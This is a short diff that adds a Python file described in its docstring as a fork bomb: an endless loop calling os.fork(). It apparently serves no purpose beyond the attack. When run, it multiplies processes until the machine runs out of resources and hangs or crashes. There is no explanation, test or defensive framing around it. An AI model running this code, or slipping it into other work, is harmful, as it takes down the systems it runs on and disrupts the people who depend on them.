@@ -1,0 +1,6 @@
+"""A fork bomb."""
+
+import os
+
+while True:
+    os.fork()
